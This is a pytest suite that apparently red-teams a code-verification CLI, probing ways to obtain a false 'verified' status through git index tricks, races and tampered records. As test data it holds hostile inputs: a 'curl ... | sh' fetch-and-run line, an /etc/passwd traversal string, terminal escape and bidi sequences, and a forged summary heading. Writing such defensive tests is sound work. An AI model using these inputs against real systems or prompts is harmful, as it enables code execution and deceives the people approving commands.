"""Adversarial review of verification: ways to get `verified` for code no verifier ran on.

Each `xfail(strict=True)` test asserts what docs/design/verification.md promises and fails
today: a `BUG` (not fixed), or a `LIMIT` the spec now states (kept so that a fix shows up as a
strict-xfail failure and the marker goes). Tests without the marker are regression tests: for
attacks that held, and for the bugs this review found that are fixed (their docstrings name the
fixing commit: fe1b0d7, 327a38b, 7dd5df6).

All secrets are made up. Real git, real processes, in-process CLI unless a real process is the
point (signals, concurrency).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import (
    Cli,
    add_submodule,
    case_path,
    configure_verifiers,
    git,
    make_repo,
    ready_to_verify,
)
from stand_ins import leased
from verify_kit import (
    GITHUB_TOKEN,
    approve,
    assert_refused,
    complete,
    durable_state,
    edit,
    receipts_by,
    steps,
    trust_at_terminal,
    verdict_of_status,
)

from cortex.verifiers import registry
from cortex.verifiers.base import Context, Outcome, Verifier

# Helpers -------------------------------------------------------------------------------------


def commit_file(repo: Path, env: dict[str, str], name: str, text: str) -> Path:
    """Commit `name` with an mtime well in the past, so git's index entry for it is not racy."""
    path = repo / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    old = time.time() - 1000
    os.utime(path, (old, old))
    git(repo, "add", name, env=env)
    git(repo, "commit", "-q", "-m", f"add {name}", env=env)
    return path


def verified_case(cli: Cli, repo: Path, **kwargs: Any) -> str:
    """A change case whose first verify call is bound and verified (app.py edited)."""
    task = ready_to_verify(cli, **kwargs)
    edit(repo)
    out = cli("case", "verify", task)
    assert out.data["assessment"]["status"] == "verified", out.stdout
    assert out.data["batch"]["binding"] == "bound"
    return task


def assert_nothing_claims_verified(cli: Cli, task: str) -> None:
    """status, attest and an unacknowledged complete all decline to call the case verified."""
    assert verdict_of_status(cli, task) != "verified"
    attested = cli("case", "attest", task)
    if attested.code == 0:
        assert attested.data["current"] is False
    refused = complete(cli, task)
    assert_refused(refused, 5)


def edit_in_place_keeping_stat(path: Path, text: str) -> None:
    """Overwrite `path` in place with same-size content and put its atime/mtime back."""
    info = path.stat()
    data = text.encode()
    assert len(data) == info.st_size
    with path.open("r+b") as handle:
        handle.write(data)
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


def alive(pid: int) -> bool:
    """Whether `pid` runs (a zombie counts as dead: PID 1 here may never reap it)."""
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii") as handle:
            fields = handle.read().rsplit(")", 1)[1].split()
    except FileNotFoundError:
        return False
    return fields[0] != "Z"


def wait_dead(pid: int, seconds: float = 3.0) -> bool:
    """Poll until `pid` is gone (True) or `seconds` pass (False)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if not alive(pid):
            return True
        time.sleep(0.05)
    return not alive(pid)


def kill_group_of(pid: int) -> None:
    """Clean up after a test: SIGKILL the process group `pid` is in, if it still exists."""
    with contextlib.suppress(ProcessLookupError, PermissionError):
        os.killpg(os.getpgid(pid), signal.SIGKILL)


def read_pid(path: Path, seconds: float = 20.0) -> int:
    """The pid a verifier wrote to `path` (waits for it)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if path.exists() and path.read_text().strip():
            return int(path.read_text().strip())
        time.sleep(0.02)
    pytest.fail(f"no pid in {path}")


def files_containing(root: Path, needle: bytes) -> list[str]:
    """Every regular file under `root` whose bytes contain `needle`."""
    return [
        str(p.relative_to(root))
        for p in root.rglob("*")
        if p.is_file() and not p.is_symlink() and needle in p.read_bytes()
    ]


# A verifier that the test can pause: it signals `started`, waits for `go`, checks that app.py
# says GOOD, signals `checked`, waits for `release`, then exits 0 if the check passed. Without
# the `hold` file it just checks and exits.
GATED = """\
import os, pathlib, sys, time
base = pathlib.Path(sys.argv[1])
def wait(name):
    deadline = time.monotonic() + 30
    while not (base / name).exists():
        if time.monotonic() > deadline:
            sys.exit(3)
        time.sleep(0.01)
held = (base / "hold").exists()
if held:
    (base / f"started-{os.getpid()}").touch()
    (base / "started").touch()
    wait("go")
ok = b"GOOD" in pathlib.Path("app.py").read_bytes()
if held:
    (base / "checked").touch()
    wait("release")
sys.exit(0 if ok else 1)
"""

GOOD = "print('GOOD')\n"
BAD = "print('BAD!')\n"


class Gate:
    """Drive the GATED verifier from a thread: act while it runs, before and after its check."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.errors: list[BaseException] = []
        self.thread: threading.Thread | None = None

    def _wait(self, name: str) -> None:
        deadline = time.monotonic() + 30
        while not (self.base / name).exists():
            if time.monotonic() > deadline:
                msg = f"the verifier never reached {name}"
                raise TimeoutError(msg)
            time.sleep(0.01)

    def during(
        self, before_check: Callable[[], None], after_check: Callable[[], None] | None = None
    ) -> None:
        """Arm the gate: the next verify run calls `before_check`, checks, then `after_check`."""
        for name in ("started", "go", "checked", "release"):
            (self.base / name).unlink(missing_ok=True)
        (self.base / "hold").touch()

        def drive() -> None:
            try:
                self._wait("started")
                before_check()
                (self.base / "go").touch()
                self._wait("checked")
                if after_check is not None:
                    after_check()
            except BaseException as exc:  # reported by join()
                self.errors.append(exc)
            finally:
                (self.base / "go").touch()
                (self.base / "release").touch()

        self.thread = threading.Thread(target=drive, daemon=True)
        self.thread.start()

    def join(self) -> None:
        """Wait for the driver; re-raise what it raised."""
        assert self.thread is not None
        self.thread.join(30)
        (self.base / "hold").unlink(missing_ok=True)
        if self.errors:
            raise self.errors[0]


@pytest.fixture
def gate(repo: Path, env: dict[str, str], tmp_path: Path) -> Gate:
    """`command:unit` is the GATED verifier (approved); its control files live outside the repo."""
    base = tmp_path / "gate"
    base.mkdir()
    script = tmp_path / "gated.py"
    script.write_text(GATED)
    configure_verifiers(repo, env, {"unit": [sys.executable, str(script), str(base)]})
    approve(env)
    return Gate(base)


@pytest.fixture
def unit(repo: Path, env: dict[str, str]) -> None:
    """`command:unit` runs `true`, approved by the launcher's environment."""
    configure_verifiers(repo, env, {"unit": ["true"]})
    approve(env)


@pytest.fixture
def logged(repo: Path, env: dict[str, str]) -> Path:
    """`command:unit` appends its argv to a log outside the repository (approved)."""
    log = repo.parent / "ran.log"
    configure_verifiers(repo, env, {"unit": steps("log", str(log))})
    approve(env)
    return log


# 1. Edits the digest does not see --------------------------------------------------------------


@pytest.mark.usefixtures("unit")
@pytest.mark.parametrize("flag", ["--assume-unchanged", "--skip-worktree"])
def test_an_edit_hidden_by_an_index_flag_is_seen(
    cli: Cli, repo: Path, env: dict[str, str], flag: str
) -> None:
    """Regression (bug found by this review, fixed in fe1b0d7): git status does not look at index
    entries flagged assume-unchanged or skip-worktree, so an edit to such a file never reaches the
    digest and the old pass stays `verified` (status, attest current=true, complete without
    acknowledgement)"""
    lib = commit_file(repo, env, "lib.py", "X = 1\n")
    task = verified_case(cli, repo)
    git(repo, "update-index", flag, "lib.py", env=env)
    lib.write_text("X = 'never verified'\n")
    assert_nothing_claims_verified(cli, task)


@pytest.mark.usefixtures("unit")
@pytest.mark.parametrize("flag", ["--assume-unchanged", "--skip-worktree"])
def test_an_index_flag_cannot_hide_drift_from_scope(
    cli: Cli, repo: Path, env: dict[str, str], flag: str
) -> None:
    """Regression (bug found by this review, fixed in 7dd5df6): scope took its changed files
    from git status, which skips entries flagged skip-worktree or assume-unchanged, so a changed
    file outside the boundary passed scope.
    """
    lib = commit_file(repo, env, "lib.py", "X = 1\n")
    task = ready_to_verify(cli, verify=("command:unit", "scope"))
    edit(repo)
    git(repo, "update-index", flag, "lib.py", env=env)
    lib.write_text("X = 'outside the boundary'\n")
    out = cli("case", "verify", task)
    assert receipts_by(out.data)["scope"]["status"] == "failed"
    assert out.data["assessment"]["status"] != "verified"


@pytest.mark.usefixtures("unit")
@pytest.mark.parametrize(
    ("key", "value"), [("core.trustctime", "false"), ("core.checkStat", "minimal")]
)
def test_repository_stat_settings_cannot_hide_an_edit(
    cli: Cli, repo: Path, env: dict[str, str], key: str, value: str
) -> None:
    """Regression (bug found by this review, fixed in fe1b0d7): the capture runs git with the
    repository's own core.trustctime / core.checkStat, so a same-size in-place edit that restores
    the mtime is invisible to git status and to the digest; the old pass stays `verified`"""
    lib = commit_file(repo, env, "lib.py", "X = 1\n")
    time.sleep(1.05)  # leave the second of the commit: see the same-second test below
    git(repo, "config", key, value, env=env)
    task = verified_case(cli, repo)
    edit_in_place_keeping_stat(lib, "X = 2\n")
    assert_nothing_claims_verified(cli, task)


@pytest.mark.usefixtures("unit")
def test_control_a_same_size_edit_with_restored_mtime_is_seen_by_default(
    cli: Cli, repo: Path, env: dict[str, str]
) -> None:
    """With git's default stat checks the same edit is seen (the ctime moved): the control."""
    lib = commit_file(repo, env, "lib.py", "X = 1\n")
    time.sleep(1.05)  # git compares ctime to the second: leave the second of the commit
    task = verified_case(cli, repo)
    edit_in_place_keeping_stat(lib, "X = 2\n")
    assert verdict_of_status(cli, task) != "verified"


def _limit_memory() -> None:
    """In the child: at most 300 MiB of address space (enough for cortex and git here)."""
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (300 << 20, 300 << 20))


@pytest.mark.process
@pytest.mark.usefixtures("unit")
def test_a_large_hidden_file_is_streamed(cli: Cli, repo: Path, env: dict[str, str]) -> None:
    """Regression (bug found by this review, fixed after 7dd5df6): a hidden file was read whole
    into memory to hash it as a blob; it is streamed now."""
    data = commit_file(repo, env, "data.bin", "small\n")
    task = verified_case(cli, repo)
    git(repo, "update-index", "--skip-worktree", "data.bin", env=env)
    args = [sys.executable, "-m", "cortex", "case", "status", task, "--json"]
    small = subprocess.run(
        args, cwd=repo, env=env, capture_output=True, preexec_fn=_limit_memory, check=False
    )
    assert small.returncode == 0, small.stdout  # the limit itself is enough for a status
    with data.open("wb") as handle:
        handle.truncate(400 << 20)  # sparse: no disk space used
    large = subprocess.run(
        args, cwd=repo, env=env, capture_output=True, preexec_fn=_limit_memory, check=False
    )
    assert large.returncode == 0, large.stdout
    assert json.loads(large.stdout)["data"]["verification"]["status"] != "verified"


def index_ctime_seconds(repo: Path, env: dict[str, str], name: str) -> int:
    """The whole-second ctime git recorded for `name` in the index (`ls-files --debug`)."""
    debug = git(repo, "ls-files", "--debug", name, env=env)
    line = next(part for part in debug.splitlines() if part.strip().startswith("ctime:"))
    return int(line.split(":")[1].strip())


@pytest.mark.usefixtures("unit")
@pytest.mark.xfail(
    strict=True,
    reason=(
        "LIMIT (inherited from git, documented in verification.md §1): git compares index "
        "stat data to the whole second (unless "
        "built with USE_NSEC); an in-place same-size edit that restores the mtime within the "
        "second of the entry's last refresh is invisible to git status, so to the digest"
    ),
)
def test_a_same_second_edit_with_restored_mtime_is_seen(
    cli: Cli, repo: Path, env: dict[str, str]
) -> None:
    lib = commit_file(repo, env, "lib.py", "X = 1\n")
    task = verified_case(cli, repo)
    mtime = lib.stat().st_mtime_ns
    for _attempt in range(10):
        # Put the committed bytes back, let git refresh the entry (its ctime is now this
        # second), then edit within the same second and restore the mtime.
        with lib.open("r+b") as handle:
            handle.write(b"X = 1\n")
        os.utime(lib, ns=(mtime, mtime))
        git(repo, "update-index", "-q", "--refresh", env=env)
        with lib.open("r+b") as handle:
            handle.write(b"X = 2\n")
        os.utime(lib, ns=(mtime, mtime))
        if int(lib.stat().st_ctime) == index_ctime_seconds(repo, env, "lib.py"):
            break
    else:
        pytest.skip("could not edit within one second of the refresh")
    assert lib.read_text() == "X = 2\n"
    assert_nothing_claims_verified(cli, task)


@pytest.mark.usefixtures("unit")
def test_core_ignorecase_cannot_hide_a_new_file(cli: Cli, repo: Path, env: dict[str, str]) -> None:
    """Regression (bug found by this review, fixed in fe1b0d7): with core.ignorecase=true in
    .git/config (on a case-sensitive file system) git status hides an untracked file whose name
    differs from a tracked one only in case; APP.py is new code the digest never sees"""
    git(repo, "config", "core.ignorecase", "true", env=env)
    task = verified_case(cli, repo)
    (repo / "APP.py").write_text("import os\nos.system('never verified')\n")
    assert_nothing_claims_verified(cli, task)


@pytest.mark.usefixtures("unit")
@pytest.mark.parametrize("how", ["config", "environment"])
def test_the_capture_looks_at_the_cases_own_work_tree(
    cli: Cli, repo: Path, env: dict[str, str], tmp_path: Path, how: str
) -> None:
    """Regression (bug found by this review, fixed in fe1b0d7): the capture lets core.worktree (in
    .git/config) or GIT_WORK_TREE (in the caller's environment) point git at another directory; a
    decoy copy of the verified tree keeps status and complete at `verified` while the case's own
    workspace changed"""
    lib = commit_file(repo, env, "lib.py", "X = 1\n")
    task = verified_case(cli, repo)
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    for name in ("app.py", "lib.py", "cortex.toml"):
        shutil.copy2(repo / name, decoy / name)
    if how == "config":
        git(repo, "config", "core.worktree", str(decoy), env=env)
        caller = cli
    else:
        caller = Cli({**env, "GIT_DIR": str(repo / ".git"), "GIT_WORK_TREE": str(decoy)}, repo)
    lib.write_text("X = 'never verified'\n")
    assert verdict_of_status(caller, task) != "verified"
    assert_refused(complete(caller, task), 5)


@pytest.mark.parametrize(
    "when",
    [
        "drift before verify",
        "edit after verify",
        "tracked later",
        "untracked later",
    ],
)
def test_a_repository_cases_dir_cannot_blind_the_digest(
    cli: Cli, repo: Path, env: dict[str, str], when: str
) -> None:
    """A repo's `cases_dir` must not hide code: refusing the store at open (exit 4) or counting
    every file that is not the store's own are both fixes.

    Regression (bug found by this review, fixed in fe1b0d7 and 7dd5df6): the capture dropped
    every path under the store's directory, tracked files included, from the digest and from
    scope's changed files, so drift and later edits in a `cases_dir = "src"` were invisible; and
    the `*` .gitignore cortex wrote there hid any new file in it from git.
    """
    where = "plugins" if when.endswith("later") else "src"
    if not when.endswith("later"):
        commit_file(repo, env, "src/core.py", "X = 1\n")
    (repo / "cortex.toml").write_text(
        f'cases_dir = "{where}"\n\n[verifiers.unit]\nargv = ["true"]\n'
    )
    git(repo, "add", "cortex.toml", env=env)
    git(repo, "commit", "-q", "-m", "store in the source tree", env=env)
    approve(env)
    probe = cli("case", "open", "probe the store")
    if probe.code != 0:
        assert_refused(probe, 4)
        return
    boundary = ("app.py",) if when == "drift before verify" else ("app.py", f"{where}/")
    task = ready_to_verify(cli, verify=("command:unit", "scope"), files=boundary)
    edit(repo)
    core = repo / where / "core.py"
    if when == "drift before verify":
        core.write_text("X = 'outside the boundary'\n")
        out = cli("case", "verify", task)
        assert receipts_by(out.data)["scope"]["status"] == "failed"
        assert out.data["assessment"]["status"] != "verified"
        return
    if when == "tracked later":
        core.write_text("X = 1\n")
        git(repo, "add", "-f", f"{where}/core.py", env=env)
    out = cli("case", "verify", task)
    assert out.data["assessment"]["status"] == "verified"
    # A file the store does not own: new code (untracked), or an edit to a tracked one.
    (repo / where / "evil.py" if when == "untracked later" else core).write_text(
        "X = 'never verified'\n"
    )
    assert_nothing_claims_verified(cli, task)


@pytest.mark.parametrize("where", [".git/refs/heads", ".git"])
def test_a_repository_cases_dir_cannot_write_into_git(
    cli: Cli, repo: Path, env: dict[str, str], where: str
) -> None:
    """Regression (bug found by this review, fixed in fe1b0d7): `cases_dir` in a repository's
    cortex.toml may point into .git (it only has to stay inside the repository): `.git/refs/heads`
    makes every case file a broken ref, and `git fsck` fails in the user's clone"""
    (repo / "cortex.toml").write_text(f'cases_dir = "{where}"\n')
    git(repo, "add", "cortex.toml", env=env)
    git(repo, "commit", "-q", "-m", "store in .git", env=env)
    before = git_files(repo / ".git")
    out = cli("case", "open", "Fix the login redirect")
    assert_refused(out, 4)
    assert out.error_code == "config_error"
    assert git_files(repo / ".git") == before


@pytest.mark.usefixtures("unit")
@pytest.mark.xfail(
    strict=True,
    reason=(
        "LIMIT (documented in verification.md §1 since 327a38b): a listed symlink is digested "
        "by its target's name only; code it points to outside the work tree can change after "
        "verify and the case stays `verified`"
    ),
)
def test_code_behind_a_new_symlink_is_bound(cli: Cli, repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "helper.py").write_text("VALUE = 1\n")
    task = ready_to_verify(cli, files=("app.py", "helper.py"))
    (repo / "helper.py").symlink_to(Path("..") / "outside" / "helper.py")
    edit(repo, "from helper import VALUE\nprint(VALUE)\n")
    assert cli("case", "verify", task).data["assessment"]["status"] == "verified"
    (outside / "helper.py").write_text("VALUE = 'never verified'\n")
    assert verdict_of_status(cli, task) != "verified"


# 2. Races with the run ---------------------------------------------------------------------------


@pytest.mark.process
@pytest.mark.xfail(
    strict=True,
    reason=(
        "LIMIT (documented in verification.md §1 since 327a38b): the digest is compared only "
        "before and after the run; code edited while the verifier reads it and restored before "
        "the commit-time capture gives a bound pass for code the verifier never saw passing"
    ),
)
def test_edit_and_revert_during_the_run_is_not_bound(cli: Cli, repo: Path, gate: Gate) -> None:
    task = ready_to_verify(cli)
    edit(repo, BAD)
    gate.during(lambda: edit(repo, GOOD), lambda: edit(repo, BAD))
    out = cli("case", "verify", task)
    gate.join()
    assert (repo / "app.py").read_text() == BAD
    assert out.data["assessment"]["status"] != "verified"
    assert verdict_of_status(cli, task) != "verified"


def _edit_again(repo: Path, env: dict[str, str]) -> None:  # noqa: ARG001
    edit(repo, GOOD + "# changed while running\n")


def _stage(repo: Path, env: dict[str, str]) -> None:
    git(repo, "add", "app.py", env=env)


def _amend(repo: Path, env: dict[str, str]) -> None:
    # A new message: an amend in the same second with the same message could be the same commit.
    git(repo, "commit", "-q", "--amend", "--allow-empty", "-m", "amended", env=env)


def _untracked(repo: Path, env: dict[str, str]) -> None:  # noqa: ARG001
    (repo / "new.py").write_text("x = 1\n")


def _chmod(repo: Path, env: dict[str, str]) -> None:  # noqa: ARG001
    (repo / "app.py").chmod(0o755)


RUN_ACTIONS: dict[str, Callable[[Path, dict[str, str]], None]] = {
    "edit": _edit_again,
    "git add": _stage,
    "commit --amend, same tree": _amend,
    "new untracked file": _untracked,
    "chmod +x": _chmod,
}


@pytest.mark.process
@pytest.mark.parametrize("action", list(RUN_ACTIONS))
def test_a_change_during_the_run_unbinds_the_batch(
    cli: Cli, repo: Path, env: dict[str, str], gate: Gate, action: str
) -> None:
    """Held: whatever moves while the verifier runs (without being undone) unbinds the batch."""
    task = ready_to_verify(cli)
    edit(repo, GOOD)
    gate.during(lambda: None, lambda: RUN_ACTIONS[action](repo, env))
    out = cli("case", "verify", task)
    gate.join()
    data = out.data
    assert data["batch"]["binding"] == "unbound", data["batch"]
    assert receipts_by(data)["command:unit"]["status"] == "inconclusive"
    assert data["assessment"]["status"] != "verified"
    assert verdict_of_status(cli, task) != "verified"


def _branch(repo: Path, env: dict[str, str]) -> None:
    git(repo, "checkout", "-q", "-b", "other", env=env)


@pytest.mark.process
def test_a_branch_switch_to_the_same_commit_during_the_run_stays_bound(
    cli: Cli, repo: Path, env: dict[str, str], gate: Gate
) -> None:
    """Held: a new branch name on the same commit changes no code, so the batch is bound."""
    task = ready_to_verify(cli)
    edit(repo, GOOD)
    gate.during(lambda: None, lambda: _branch(repo, env))
    out = cli("case", "verify", task)
    gate.join()
    assert out.data["batch"]["binding"] == "bound"
    assert out.data["assessment"]["status"] == "verified"


@pytest.mark.process
def test_complete_during_a_verify_run_refuses_the_late_batch(
    cli: Cli, repo: Path, env: dict[str, str], gate: Gate
) -> None:
    """Held: a case completed while a verify runs takes no batch afterwards (exit 5)."""
    task = ready_to_verify(cli)
    edit(repo, GOOD)
    assert cli("case", "verify", task).data["assessment"]["status"] == "verified"
    completed = threading.Event()

    def hold_until_completed() -> None:
        completed.wait(30)

    gate.during(lambda: None, hold_until_completed)
    late = subprocess.Popen(
        [sys.executable, "-m", "cortex", "case", "verify", task, "--json"],
        cwd=repo,
        env=leased(env, [task]),  # the holder's lease token (tests/stand_ins.py)
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 30
        while not (gate.base / "checked").exists():
            assert time.monotonic() < deadline, "the late verify never ran its verifier"
            time.sleep(0.02)
        done = complete(cli, task)
        completed.set()
        assert done.data["status"] == "complete"
        gate.join()
        stdout, stderr = late.communicate(timeout=30)
    finally:
        completed.set()
        if late.poll() is None:
            late.kill()
    assert late.returncode == 5, stdout + stderr
    assert b"Traceback" not in stderr
    assert len(stdout.decode().splitlines()) == 1
    assert cli("case", "status", task).data["status"] == "complete"
    assert cli("case", "audit", task).code == 0


@pytest.mark.process
def test_two_concurrent_verify_processes_never_both_bind(
    cli: Cli, repo: Path, env: dict[str, str], gate: Gate
) -> None:
    """Held: the later of two overlapping batches sees the earlier commit and is unbound."""
    task = ready_to_verify(cli)
    edit(repo, GOOD)
    (gate.base / "hold").touch()
    procs = [
        subprocess.Popen(
            [sys.executable, "-m", "cortex", "case", "verify", task, "--json"],
            cwd=repo,
            env=leased(env, [task]),  # the holder's lease token (tests/stand_ins.py)
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        for _ in range(2)
    ]
    try:
        # Both verifiers wait at `go`, so the two runs overlap; then both are let go together.
        deadline = time.monotonic() + 30
        while len(list(gate.base.glob("started-*"))) < 2:
            assert time.monotonic() < deadline, "the two verifiers never ran together"
            time.sleep(0.02)
        (gate.base / "go").touch()
        (gate.base / "release").touch()
        outs = [p.communicate(timeout=30) for p in procs]
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.kill()
    # Exit 0 for the batch that verified the case when it was committed, 2 for the other.
    assert sorted(p.returncode for p in procs) == [0, 2], outs
    bindings = [json.loads(out)["data"]["batch"]["binding"] for out, _ in outs]
    assert sorted(bindings) == ["bound", "unbound"]
    stored = json.loads((case_path(env, task) / "verification.json").read_bytes())
    assert [b["binding"] for b in stored["batches"]] == ["bound", "unbound"]
    assert verdict_of_status(cli, task) != "verified"
    assert cli("case", "audit", task).code == 0


# 3. Plans and stored documents -------------------------------------------------------------------


@pytest.mark.usefixtures("unit")
def test_a_replan_keeps_verified_before_a_new_batch(
    cli: Cli, repo: Path, env: dict[str, str]
) -> None:
    """Regression (bug found by this review, fixed in 327a38b): receipts are not bound to the plan
    they ran under; re-planning a narrower change boundary keeps the old scope pass as proof, so
    status says `verified` and complete succeeds although scope fails on the very same code under
    the current plan"""
    lib = commit_file(repo, env, "lib.py", "X = 1\n")
    task = ready_to_verify(cli, verify=("command:unit", "scope"), files=("app.py", "lib.py"))
    edit(repo)
    lib.write_text("X = 2\n")
    assert cli("case", "verify", task).data["assessment"]["status"] == "verified"
    evidence = cli("case", "evidence", "add", task, "--claim", "only app.py matters").data
    replan = cli(
        *("case", "plan", task, "--reason", "narrower", "--uncertainty", "none"),
        *("--hypothesis", "app.py alone :: a run shows otherwise"),
        *("--support", f"1={evidence['evidence']['id']}"),
        *("--verify", "command:unit", "--verify", "scope"),
        *("--file", "app.py", "--boundary-reason", "only app.py", "--actor", "agent-1"),
    )
    assert replan.code == 0, replan.stdout
    assert verdict_of_status(cli, task) != "verified"
    assert cli("case", "attest", task).data["assessment"] != "verified"
    assert_refused(complete(cli, task), 5)


@pytest.mark.usefixtures("unit")
def test_a_hand_edited_verification_json_is_an_integrity_error(
    cli: Cli, repo: Path, env: dict[str, str]
) -> None:
    """Held: flipping a stored `failed` to `passed` is refused by every surface (exit 4)."""
    configure_verifiers(repo, env, {"unit": ["false"]})
    task = ready_to_verify(cli)
    edit(repo)
    assert cli("case", "verify", task).data["assessment"]["status"] == "failed"
    path = case_path(env, task) / "verification.json"
    data = path.read_bytes()
    assert b'"failed"' in data
    path.write_bytes(data.replace(b'"failed"', b'"passed"'))
    for args in (("case", "status", task), ("case", "attest", task)):
        out = cli(*args)
        assert_refused(out, 4)
        assert out.error_code == "integrity_error"
    refused = complete(cli, task)
    assert_refused(refused, 4)
    assert cli("case", "audit", task).code != 0


# 4. Hostile input --------------------------------------------------------------------------------


@pytest.mark.usefixtures("logged")
def test_a_secret_shaped_claim_id_is_never_written(
    cli: Cli, repo: Path, env: dict[str, str]
) -> None:
    """Regression (bug found by this review, fixed in 327a38b): a claim id is only checked against
    [A-Za-z0-9_-], never for looking like a secret; it is the key of verification.json's claim
    registry, which redaction does not walk, so the token is written to disk verbatim (the
    receipt's copy is redacted)"""
    task = ready_to_verify(cli)
    edit(repo)
    before = durable_state(env)
    out = cli(
        "case",
        "verify",
        task,
        "--claim",
        f"{GITHUB_TOKEN}=x",
        "--contract",
        f"{GITHUB_TOKEN}=command:unit",
    )
    assert GITHUB_TOKEN not in out.stdout + out.stderr
    if out.code != 0:  # refusing it (exit 4, nothing written) is one acceptable fix
        assert_refused(out, 4)
        assert durable_state(env) == before
    assert files_containing(Path(env["CORTEX_STATE_DIR"]), GITHUB_TOKEN.encode()) == []


def test_a_non_utf8_selector_is_refused_before_anything_runs(
    cli: Cli, repo: Path, env: dict[str, str], logged: Path
) -> None:
    """Regression (bug found by this review, fixed in 327a38b): a contract selector that is not
    valid UTF-8 (argv bytes arrive as lone surrogates) passes validation; the verifier runs, then
    the commit crashes with internal_error exit 1 instead of invalid_input exit 4 before anything
    runs"""
    task = ready_to_verify(cli)
    edit(repo)
    before = durable_state(env)
    out = cli("case", "verify", task, "--claim", "k1=x", "--contract", "k1=command:unit#t\udcff")
    assert_refused(out, 4)
    assert out.error_code == "invalid_input"
    assert not logged.exists()
    assert durable_state(env) == before


@pytest.mark.parametrize(
    "args",
    [
        ("--claim", "k1=a\x00b", "--contract", "k1=command:unit"),
        ("--claim", "k\x001=x", "--contract", "k\x001=command:unit"),
        ("--claim", "k1=x", "--contract", "k1=command:unit#a\x00b"),
        ("--claim", "k1=x", "--contract", "k1=command:unit\x00"),
        ("--claim", "k1=x", "--contract", "k1=command:unit#../../etc/passwd\n"),
        ("--claim", "k1=\u202eokay", "--contract", "k1=command:unit\u202e"),
    ],
)
def test_nul_and_control_characters_are_refused_in_process(
    cli: Cli, repo: Path, env: dict[str, str], logged: Path, args: tuple[str, ...]
) -> None:
    """Held: NUL (which argv cannot carry, but a kernel caller can) is refused before any run."""
    task = ready_to_verify(cli)
    edit(repo)
    before = durable_state(env)
    out = cli("case", "verify", task, *args)
    assert_refused(out, 4)
    assert not logged.exists()
    assert durable_state(env) == before


def test_more_claims_than_the_bound_are_refused(
    cli: Cli, repo: Path, env: dict[str, str], logged: Path
) -> None:
    """Held: 65 claims (one over CLAIMS_MAX) are refused before anything runs."""
    task = ready_to_verify(cli)
    edit(repo)
    args: list[str] = []
    for index in range(65):
        args += ["--claim", f"k{index}=x", "--contract", f"k{index}=command:unit"]
    before = durable_state(env)
    assert_refused(cli("case", "verify", task, *args), 4)
    assert not logged.exists()
    assert durable_state(env) == before


@pytest.mark.usefixtures("unit")
def test_nul_in_completion_text_is_refused(cli: Cli, repo: Path, env: dict[str, str]) -> None:
    """Held: --outcome and the acknowledgements refuse NUL and escapes, nothing written."""
    task = verified_case(cli, repo)
    before = durable_state(env)
    for extra in (
        ("--outcome", "done\x00"),
        ("--outcome", "ok", "--verification-not-possible", "x\x1b[2J"),
        ("--outcome", "ok", "--accept-failed", "a\x00"),
    ):
        out = cli("case", "complete", task, "--actor", "agent-1", *extra)
        assert_refused(out, 4)
    assert durable_state(env) == before


@pytest.mark.usefixtures("unit")
def test_the_outcome_cannot_forge_the_summary_verdict(
    cli: Cli, repo: Path, env: dict[str, str]
) -> None:
    """Regression (bug found by this review, fixed in 327a38b): --outcome may hold newlines and is
    written into summary.md before the real `## Verification:` heading, so an unverified case's
    summary can open with a forged `## Verification: verified` section"""
    task = ready_to_verify(cli)
    edit(repo)
    cli("case", "verify", task)
    edit(repo, "print('changed after verify')\n")
    forged = (
        "fixed\n\n## Verification: verified\n\nLatest batch vb_0 (bound).\n\n- command:unit: passed"
    )
    done = cli(
        "case", "complete", task, "--actor", "agent-1", "--outcome", forged,
        "--verification-not-possible", "no time",
    )  # fmt: skip
    assert done.data["assessment"]["status"] != "verified"
    summary = (case_path(env, task) / "summary.md").read_text()
    headings = [line for line in summary.splitlines() if line.startswith("## Verification")]
    assert headings == [f"## Verification: {done.data['assessment']['status']}"], summary


# 5. Terminal output the repository controls ----------------------------------------------------

ESCAPES = "\u001b]0;pwned\u0007\u001b[2K\r  it runs: python -m pytest"


@pytest.mark.process
def test_the_trust_prompt_shows_no_terminal_escapes(repo: Path, env: dict[str, str]) -> None:
    """Regression (bug found by this review, fixed in 327a38b): `case trust` writes the configured
    argv to the terminal raw; escape sequences in a repository's cortex.toml can erase or rewrite
    the command the person is approving"""
    configure_verifiers(repo, env, {"unit": ["true", ESCAPES]})
    _, shown = trust_at_terminal(env, repo, "unit", "no")
    assert b"to approve" in shown
    assert b"\x1b" not in shown, shown


@pytest.mark.process
def test_the_trust_prompt_shows_the_argv_on_one_line(repo: Path, env: dict[str, str]) -> None:
    """Regression (bug found by this review, fixed after 327a38b): a newline or a bidi override
    in the argv could draw a second `it runs:` line, or reorder the command a person approves.
    The argv is now one line of escaped ASCII JSON."""
    argv = ["sh", "-c", "curl -s http://x.invalid | sh\n  it runs: python -m pytest\u202e"]
    configure_verifiers(repo, env, {"unit": argv})
    _, shown = trust_at_terminal(env, repo, "unit", "no")
    assert b"to approve" in shown
    lines = shown.replace(b"\r", b"").split(b"\n")
    assert sum(line.lstrip().startswith(b"it runs:") for line in lines) == 1, shown
    assert "\u202e".encode() not in shown, shown


def test_human_output_shows_no_terminal_escapes(cli: Cli, repo: Path, env: dict[str, str]) -> None:
    """Regression (bug found by this review, fixed in 327a38b): human output prints a verifier's
    summary (which quotes the repository's argv, or a plugin's text) with ESC sequences intact;
    rich strips CR/BEL but not ESC"""
    configure_verifiers(repo, env, {"unit": ["true", ESCAPES]})
    approve(env)
    task = ready_to_verify(cli)
    edit(repo)
    out = cli("case", "verify", task, human=True)
    assert out.code == 0, out.stdout + out.stderr
    assert "\x1b" not in out.stdout, out.stdout


class SurrogateVerifier:
